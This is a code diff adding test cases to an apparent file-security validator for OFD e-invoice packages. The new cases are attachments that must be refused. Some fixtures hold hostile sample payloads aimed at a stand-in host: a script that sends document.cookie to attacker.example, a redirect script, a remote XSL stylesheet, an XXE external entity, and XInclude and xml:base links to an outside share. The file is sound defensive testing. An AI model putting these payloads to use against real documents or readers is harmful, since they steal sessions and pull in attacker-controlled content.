@@ -113,6 +113,10 @@ import {
   ofdColorProfile,
   ofdMediaInGbk,
   ofdReplacing,
+  INVOICE_DATA,
+  ofdAttachedData,
+  ofdAttachmentEntry,
+  ofdAttachmentList,
   UNC_SHARE,
 } from '../../fixtures/active-ofd.ts';
 import {
@@ -156,7 +160,7 @@ import {
   updateWithGenerations,
   utf16Hex,
 } from '../../fixtures/active-pdf.ts';
-import { buildZip, docxEntries, MiB, windowsExecutable, xlsxEntries } from '../../fixtures/files.ts';
+import { buildZip, docxEntries, MiB, png, windowsExecutable, xlsxEntries } from '../../fixtures/files.ts';
 import type { CorpusItem } from './corpus-item.ts';
 
 /**
@@ -2926,6 +2930,153 @@ const ofdItems: CorpusItem[] = [
       ]),
     expect: 'EMBEDDED_EXECUTABLE',
   },
+  // Round 17: an attachment is accepted only as an e-invoice's XML data (ofd/attachments.ts);
+  // these twins of it, whatever Format the list declares, stay refused.
+  {
+    id: 'ofd-attached-program-declared-xml',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', windowsExecutable()),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-attached-xml-data-under-another-name',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    // XML, but in an entry the OFD checks do not read (not `.xml`).
+    bytes: () => ofdAttachedData('original_invoice.dat', 'Doc_0/Attachs/original_invoice.dat', INVOICE_DATA),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-xml-outside-the-package',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(`${UNC_SHARE}\\original_invoice.xml`, 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-attached-xml-missing-from-the-package',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachedData('/Doc_0/original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-picture-declared-xml',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachedData('/Doc_0/Res/image_1.png', 'Doc_0/Res/image_1.png', png()),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-nested-ofd-declared-xml',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: async () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', await ofdWith('')),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-pdf-declared-xml',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', '%PDF-1.7\n'),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-docx-declared-xbrl',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: async () => ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', await buildZip(docxEntries()), 'xbrl'),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-xhtml-page',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(
+        'original_invoice.xml',
+        'Doc_0/Attachs/original_invoice.xml',
+        '<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>location="http://attacker.example/"</script></body></html>',
+      ),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-data-with-xhtml-script',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(
+        'original_invoice.xml',
+        'Doc_0/Attachs/original_invoice.xml',
+        INVOICE_DATA.replace(
+          '<Note>',
+          '<x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("http://attacker.example/t?"+document.cookie)</x:script><Note>',
+        ),
+      ),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-data-with-stylesheet',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(
+        'original_invoice.xml',
+        'Doc_0/Attachs/original_invoice.xml',
+        INVOICE_DATA.replace(
+          '?>\n',
+          '?>\n<?xml-stylesheet type="text/xsl" href="https://attacker.example/run.xsl"?>\n',
+        ),
+      ),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attached-data-with-doctype',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(
+        'original_invoice.xml',
+        'Doc_0/Attachs/original_invoice.xml',
+        INVOICE_DATA.replace('?>\n', '?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://attacker.example/x">]>\n'),
+      ),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-attached-data-and-a-pdf',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachmentList(ofdAttachmentEntry('xml', 'original_invoice.xml', 'original_invoice.pdf'), [
+        { name: 'Doc_0/Attachs/original_invoice.xml', data: INVOICE_DATA },
+        { name: 'Doc_0/Attachs/original_invoice.pdf', data: '%PDF-1.7\n' },
+      ]),
+    expect: 'OFD_ATTACHMENT',
+  }, // Round 17: parts an XML toolchain would read otherwise than the checks do.
+  {
+    id: 'ofd-page-xinclude-from-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/Pages/Page_0/Content.xml',
+        `<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${UNC_SHARE}\\page.xml" parse="xml"/></ofd:Page>`,
+      ),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-resources-xml-base-on-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/PublicRes.xml',
+        `<?xml version="1.0" encoding="UTF-8"?><ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="Res" xml:base="file://attacker.example/share/"><ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>simsun.ttf</ofd:FontFile></ofd:Font></ofd:Fonts></ofd:Res>`,
+      ),
+    expect: 'OOXML_UNREADABLE',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
@@ -3821,6 +3972,35 @@ export const ACTIVE_GENUINE: readonly {
     id: 'xlsx-content-type-defaults-without-parts',
     declared: 'xlsx',
     bytes: () => office('xlsx', { '[Content_Types].xml': contentTypes('xlsx', SHEETJS_DEFAULTS) }),
+  }, // Round 17: an e-invoice's structured data, attached as the national electronic invoice attaches
+  // it (relative to its list, or from the package root as an XBRL instance): VALID, warned of.
+  {
+    id: 'ofd-attached-invoice-data',
+    declared: 'ofd',
+    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
+    warning: 'OFD_ATTACHED_DATA',
+  },
+  {
+    id: 'ofd-attached-xbrl-data-from-root',
+    declared: 'ofd',
+    bytes: () =>
+      ofdAttachedData(
+        '/Doc_0/Attachs/inv_ord_issuer_1.xml',
+        'Doc_0/Attachs/inv_ord_issuer_1.xml',
+        INVOICE_DATA,
+        'xbrl',
+      ),
+    warning: 'OFD_ATTACHED_DATA',
+  },
+  {
+    id: 'ofd-page-text-about-xinclude',
+    declared: 'ofd',
+    // The words of XInclude and xml:base as a page's text: no namespace bound, no attribute.
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/Pages/Page_0/Content.xml',
+        '<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer ID="3"><ofd:TextObject ID="4" Boundary="0 0 100 10" Font="2" Size="5"><ofd:TextCode X="0" Y="5">&lt;xi:include href="a.xml"/&gt; xml:base="Res/" http://www.w3.org/2001/XInclude</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>',
+      ),
   },
   // Round 17: a worksheet custom property's value, Hyperion Smart View's settings in UTF-16, as
   // Excel stores it (xl/customProperty1.bin, typed and reached as a custom property).
